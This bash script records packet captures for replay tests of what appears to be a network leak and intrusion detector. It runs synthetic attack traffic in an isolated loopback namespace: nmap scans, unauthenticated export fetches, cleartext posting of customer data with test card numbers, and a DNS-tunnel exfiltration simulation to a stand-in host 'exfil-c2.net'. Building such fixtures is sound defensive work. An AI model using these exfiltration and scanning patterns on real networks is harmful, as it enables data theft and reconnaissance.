#!/bin/bash
# record.sh - record the captures in tests/pcaps/ with tcpdump on loopback,
# from real programs: curl against nginx, psql against PostgreSQL 15, nmap,
# dig against a small DNS server (record/dns_server.py), and a bulk upload
# with curl. The replay cases tests/replay/cases/net-* replay them.
#
# Re-record (as root, Debian 12; nothing leaves the machine):
#   scripts/install-deps.sh --record   # nginx-light curl postgresql tcpdump nmap dnsutils
#   tests/pcaps/record.sh              # every capture
#   tests/pcaps/record.sh dns-tunnel   # some
# Then check the cases (ctest -R replay_net): the expected incidents follow
# from the traffic below, not from the clock, so they stay valid.
#
# How: the run lives in a network namespace of its own (unshare --net), so
# the captures hold only this traffic and the servers use their usual ports.
# Hosts are those of tests/replay/site.conf: 127.0.0.1 the data host,
# 127.0.0.10-11 app servers, 127.0.0.12 a backup host (trusted), 127.0.0.30
# an office host, 127.0.0.64 and up the Internet. curl and dig choose their
# source address; psql and nmap cannot, so, as in
# tests/replay/record/postgres.sh, a route in the namespace's local table
# makes the kernel pick 127.0.0.N as the source of connections to
# 127.1.0.N (and 127.0.0.66 for the sweep targets 127.2.0.0/24).
# Each capture is one tcpdump run (-U --immediate-mode: every packet is
# written as it is seen; a 32 MB buffer, and a capture the kernel dropped
# packets of is an error) stopped by its PID once its clients have finished.
#
# Bounded: fixed request counts, every client under `timeout`, the DNS
# server stops by itself after 300 s, and every server is stopped by its
# PID on exit.
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
REC=$HERE/record
PGREC=$(cd "$HERE/../replay/record/postgres" && pwd)
PGBIN=/usr/lib/postgresql/15/bin
ALL="http-benign http-bulk-read http-export http-post-pii pg-app-benign pg-untrusted pg-untrusted-port pg-untrusted-tls nmap-scan dns-benign dns-tunnel upload"

if [ "${1:-}" = "--list" ]; then
	echo "$ALL" | tr ' ' '\n'
	exit 0
fi
if [ "$(id -u)" != 0 ]; then
	echo "record.sh: run as root (a network namespace, tcpdump, the postgres user)" >&2
	exit 1
fi
if [ -z "${BW_RECORD_NETNS:-}" ]; then
	exec unshare --net env BW_RECORD_NETNS=1 "$0" "$@"
fi
WANT=${*:-$ALL}

ip link set lo up
for n in 10 11 66; do
	ip route add local "127.1.0.$n/32" dev lo table local src "127.0.0.$n"
done
ip route add local 127.2.0.0/24 dev lo table local src 127.0.0.66

T=$(mktemp -d /tmp/bw-rec.XXXXXX)
chmod 755 "$T"
PIDS=()
TCPDUMP_PID=
PG_PID=

cleanup() {
	set +e
	[ -n "$TCPDUMP_PID" ] && kill -INT "$TCPDUMP_PID" && wait "$TCPDUMP_PID"
	[ -n "$PG_PID" ] && kill -INT "$PG_PID" && wait "$PG_PID"
	for p in "${PIDS[@]}"; do
		kill "$p" 2>/dev/null
		wait "$p" 2>/dev/null
	done
	rm -rf "$T"
}
trap cleanup EXIT

wait_for() { # what, test command...
	local what=$1
	shift
	for _ in $(seq 1 300); do
		if "$@" >/dev/null 2>&1; then
			return 0
		fi
		sleep 0.1
	done
	echo "record.sh: timed out waiting for $what" >&2
	exit 1
}

wanted() {
	case " $WANT " in *" $1 "*) return 0 ;; esac
	return 1
}

# capture_begin NAME SNAPLEN FILTER: tcpdump on lo until capture_end.
capture_begin() {
	local name=$1 snap=$2
	shift 2
	tcpdump -i lo -U --immediate-mode -B 32768 -n -s "$snap" -w "$T/$name.pcap" "$@" 2>"$T/$name.err" &
	TCPDUMP_PID=$!
	wait_for "tcpdump" grep -q "listening on" "$T/$name.err"
}
capture_end() {
	sleep 0.5
	kill -INT "$TCPDUMP_PID"
	wait "$TCPDUMP_PID" || true
	TCPDUMP_PID=
	if ! grep -q "^0 packets dropped by kernel" "$T/$1.err"; then
		echo "record.sh: $1: tcpdump lost packets:" >&2
		cat "$T/$1.err" >&2
		exit 1
	fi
	cp "$T/$1.pcap" "$HERE/$1.pcap"
	chmod 644 "$HERE/$1.pcap"
	echo "recorded $1: $(tcpdump -r "$HERE/$1.pcap" -n 2>/dev/null | wc -l) packets"
}

# --- nginx and its data -----------------------------------------------------

mkdir -p "$T/nginx/tmp" "$T/nginx/www/export"
sed "s|@RUN@|$T/nginx|g" "$REC/nginx.conf.in" >"$T/nginx/nginx.conf"
echo "<html><body>ESP</body></html>" >"$T/nginx/www/index.html"
: >"$T/nginx/api.htpasswd"
for i in $(seq 1001 1012); do
	echo "c$i:$(openssl passwd -apr1 "pw-c$i")" >>"$T/nginx/api.htpasswd"
	mkdir -p "$T/nginx/www/data/c$i"
	{
		printf '{"customer":"c%s","contacts":[' "$i"
		for j in 1 2 3 4; do
			[ "$j" = 1 ] || printf ','
			printf '{"name":"Contact %s","email":"friend%s.c%s@example.net"}' "$j" "$j" "$i"
		done
		printf ']}\n'
	} >"$T/nginx/www/data/c$i/contacts.json"
	printf '{"customer":"c%s","messages":[{"subject":"Hello","from":"news@example.com"}]}\n' "$i" \
		>"$T/nginx/www/data/c$i/messages.json"
	printf '{"id":"c%s","name":"Customer %s","plan":"basic"}\n' "$i" "$i" \
		>"$T/nginx/www/data/c$i/profile.json"
done
echo "partner-crm:$(openssl passwd -apr1 pw-partner)" >>"$T/nginx/api.htpasswd"
{
	echo "id,name,email,card"
	for i in $(seq 1001 1060); do
		echo "c$i,Customer $i,owner$i@example.org,"
	done
	# three Luhn-valid test card numbers
	echo "c1061,Customer 1061,owner1061@example.org,4111 1111 1111 1111"
	echo "c1062,Customer 1062,owner1062@example.org,5500-0000-0000-0004"
	echo "c1063,Customer 1063,owner1063@example.org,340000000000009"
} >"$T/nginx/www/export/customers.csv"
chmod -R a+rX "$T/nginx"
nginx -p "$T/nginx" -c "$T/nginx/nginx.conf" -g "daemon off;" &
PIDS+=($!)
wait_for "nginx" curl -s -o /dev/null --max-time 2 http://127.0.0.1/

get() { # source-address user:password path
	timeout 30 curl -s -o /dev/null --max-time 10 --interface "$1" \
		-A "esp-client/2.3.1" ${2:+-u "$2"} "http://127.0.0.1$3"
}

# http-benign: three customers, each from its own address, read their own
# data; the home page. Each answer carries a handful of e-mail addresses.
if wanted http-benign; then
	capture_begin http-benign 262144 tcp port 80
	for i in 1001 1002 1003; do
		src=127.0.0.1${i:2:2}
		get "$src" "" /
		for what in profile contacts messages; do
			get "$src" "c$i:pw-c$i" "/api/v1/customers/c$i/$what"
		done
	done
	capture_end http-benign
fi

# http-bulk-read: a partner integration key, used from the Internet
# (127.0.0.66), walks twelve customers' contact lists in cleartext. nginx's
# access log of the same requests is kept beside the capture
# (http-bulk-read.access.log, combined format) for the case that replays
# both, merged in time order.
if wanted http-bulk-read; then
	: >"$T/nginx/access.log"
	capture_begin http-bulk-read 262144 tcp port 80
	for i in $(seq 1001 1012); do
		get 127.0.0.66 partner-crm:pw-partner "/api/v1/customers/c$i/contacts"
	done
	capture_end http-bulk-read
	cp "$T/nginx/access.log" "$HERE/http-bulk-read.access.log"
	chmod 644 "$HERE/http-bulk-read.access.log"
fi

# http-export: the forgotten export, fetched without authentication from
# the Internet (127.0.0.77): 63 e-mail addresses and 3 card numbers.
if wanted http-export; then
	capture_begin http-export 262144 tcp port 80
	get 127.0.0.77 "" /export/customers.csv || echo "curl: $?" >&2
	capture_end http-export
fi

# http-post-pii: the data host posts the same customer list to a host on
# the Internet (127.0.0.70) in cleartext.
if wanted http-post-pii; then
	capture_begin http-post-pii 262144 tcp port 80
	timeout 30 curl -s -o /dev/null --max-time 10 --interface 127.0.0.1 \
		--data-binary @"$T/nginx/www/export/customers.csv" \
		http://127.0.0.70/upload
	capture_end http-post-pii
fi

# upload: 150 MB from the data host to a host on the Internet
# (127.0.0.70), and the same to the backup host (127.0.0.12, trusted).
# Headers only (snaplen 128): the sizes come from the IP headers.
if wanted upload; then
	head -c 150000000 /dev/zero >"$T/dump.bin"
	capture_begin upload 128 tcp port 80
	for dst in 127.0.0.70 127.0.0.12; do
		timeout 60 curl -s -o /dev/null --max-time 50 --interface 127.0.0.1 \
			--data-binary @"$T/dump.bin" "http://$dst/upload"
	done
	capture_end upload
	rm -f "$T/dump.bin"
fi

# --- PostgreSQL -------------------------------------------------------------

if wanted pg-app-benign || wanted pg-untrusted || wanted pg-untrusted-port ||
	wanted pg-untrusted-tls || wanted nmap-scan; then
	APP_PW='app-6fe1b2c09d' BACKUP_PW='backup-3a9c51e7'
	DAVE_PW='Dave-Rocks-2026' MALLORY_PW='mallory-report-q3'
	mkdir -p "$T/pg/data" "$T/pg/sock"
	chown -R postgres: "$T/pg"
	chmod 700 "$T/pg/data"
	setpriv --reuid=postgres --regid=postgres --init-groups \
		"$PGBIN/initdb" -D "$T/pg/data" -U postgres --no-locale -E UTF8 \
		--auth-local=peer --auth-host=scram-sha-256 >/dev/null
	cat >>"$T/pg/data/postgresql.conf" <<-CONF
		listen_addresses = '127.0.0.1,127.1.0.10,127.1.0.11,127.1.0.66'
		port = 5432
		unix_socket_directories = '$T/pg/sock'
		ssl = off
		password_encryption = 'scram-sha-256'
	CONF
	install -o postgres -g postgres -m 600 "$PGREC/pg_hba.conf" "$T/pg/data/pg_hba.conf"
	# pg_restart PORT [-c name=value...]: (re)start the server on PORT.
	pg_restart() {
		PGPORT=$1
		shift
		if [ -n "$PG_PID" ]; then
			kill -INT "$PG_PID"
			wait "$PG_PID" || true
			PG_PID=
		fi
		setpriv --reuid=postgres --regid=postgres --init-groups \
			"$PGBIN/postgres" -D "$T/pg/data" -p "$PGPORT" "$@" \
			>>"$T/pg/server.log" 2>&1 &
		PG_PID=$!
		wait_for "PostgreSQL" "$PGBIN/pg_isready" -q -h 127.0.0.1 -p "$PGPORT"
	}
	pg_restart 5432
	setpriv --reuid=postgres --regid=postgres --init-groups \
		"$PGBIN/psql" -X -q -v ON_ERROR_STOP=1 -h "$T/pg/sock" -d postgres \
		-v app_pw="$APP_PW" -v backup_pw="$BACKUP_PW" -v dave_pw="$DAVE_PW" \
		-v mallory_pw="$MALLORY_PW" -f "$PGREC/schema.sql" >/dev/null
	pg() { # client-octet role password psql-args...
		local n=$1 role=$2 pw=$3
		shift 3
		PGPASSWORD=$pw timeout 60 "$PGBIN/psql" -X -q -v ON_ERROR_STOP=1 \
			"host=127.1.0.$n port=$PGPORT dbname=mail user=$role" "$@"
	}
fi

# pg-app-benign: the mail application on app server 127.0.0.10, one
# customer per statement (the statements of the db-benign-app case).
if wanted pg-app-benign; then
	capture_begin pg-app-benign 262144 tcp port 5432
	pg 10 app "$APP_PW" -f "$PGREC/benign-app-10.sql" >/dev/null
	capture_end pg-app-benign
fi

# pg-untrusted: an administrator's password used from the Internet.
if wanted pg-untrusted; then
	capture_begin pg-untrusted 262144 tcp port 5432
	pg 66 dba_dave "$DAVE_PW" -f "$REC/pg-untrusted-66.sql" >/dev/null
	capture_end pg-untrusted
fi

# pg-untrusted-port: the same password used from the Internet against a
# server listening on a port that is not a database port (6543): a wrong
# password first, then a read of one customer's contacts and a dump of
# every contact. Only the content tells PostgreSQL here.
if wanted pg-untrusted-port; then
	pg_restart 6543
	capture_begin pg-untrusted-port 262144 tcp port 6543
	if pg 66 dba_dave "not-$DAVE_PW" -c "SELECT 1" >/dev/null 2>&1; then
		echo "record.sh: a wrong password was accepted" >&2
		exit 1
	fi
	pg 66 dba_dave "$DAVE_PW" -f "$REC/pg-untrusted-port-66.sql" >/dev/null
	capture_end pg-untrusted-port
fi

# pg-untrusted-tls: the pg-untrusted session over TLS (sslmode=require; a
# throw-away self-signed certificate): on the wire only the port and the
# sizes show.
if wanted pg-untrusted-tls; then
	openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj /CN=db.test \
		-keyout "$T/pg/server.key" -out "$T/pg/server.crt" 2>/dev/null
	chown postgres: "$T/pg/server.key" "$T/pg/server.crt"
	chmod 600 "$T/pg/server.key"
	pg_restart 5432 -c ssl=on -c ssl_cert_file="$T/pg/server.crt" \
		-c ssl_key_file="$T/pg/server.key"
	capture_begin pg-untrusted-tls 262144 tcp port 5432
	PGSSLMODE=require pg 66 dba_dave "$DAVE_PW" -f "$REC/pg-untrusted-66.sql" >/dev/null
	capture_end pg-untrusted-tls
fi

# nmap-scan: 127.0.0.66 scans 200 ports of 127.1.0.66 (the data host's
# address as it sees it), then sweeps 30 hosts for PostgreSQL.
if wanted nmap-scan; then
	capture_begin nmap-scan 262144 host 127.0.0.66
	timeout 120 nmap -n -Pn -sT -T4 -p 1-200 127.1.0.66 >/dev/null
	timeout 120 nmap -n -Pn -sT -T4 -p 5432 127.2.0.1-30 >/dev/null
	capture_end nmap-scan
fi

# --- DNS ----------------------------------------------------------------------

if wanted dns-benign || wanted dns-tunnel; then
	ip addr add 127.0.0.53/32 dev lo 2>/dev/null || true
	"$REC/dns_server.py" 127.0.0.53 53 300 &
	PIDS+=($!)
	wait_for "the DNS server" dig +time=1 +tries=1 -b 127.0.0.30 @127.0.0.53 example.com
fi

# dns-benign: an office host looks up the provider's own names.
if wanted dns-benign; then
	capture_begin dns-benign 262144 udp port 53
	for name in www.example.com mail.example.com api.example.com example.com; do
		for type in A TXT MX; do
			timeout 10 dig +time=2 +tries=1 -b 127.0.0.30 @127.0.0.53 "$name" "$type" >/dev/null
		done
	done
	capture_end dns-benign
fi

# dns-tunnel: the same host sends 120 hex-encoded 48-byte chunks of a file
# as names under x.exfil-c2.net (the way `dig $(xxd -p ...).evil.example`
# exfiltration works).
if wanted dns-tunnel; then
	xxd -p -c 24 -l 2880 /dev/urandom |
		awk '{ printf "%s.%d.x.exfil-c2.net TXT\n", $1, NR }' >"$T/tunnel.txt"
	capture_begin dns-tunnel 262144 udp port 53
	timeout 120 dig +time=1 +tries=1 -b 127.0.0.30 @127.0.0.53 -f "$T/tunnel.txt" >/dev/null || true
	capture_end dns-tunnel
fi
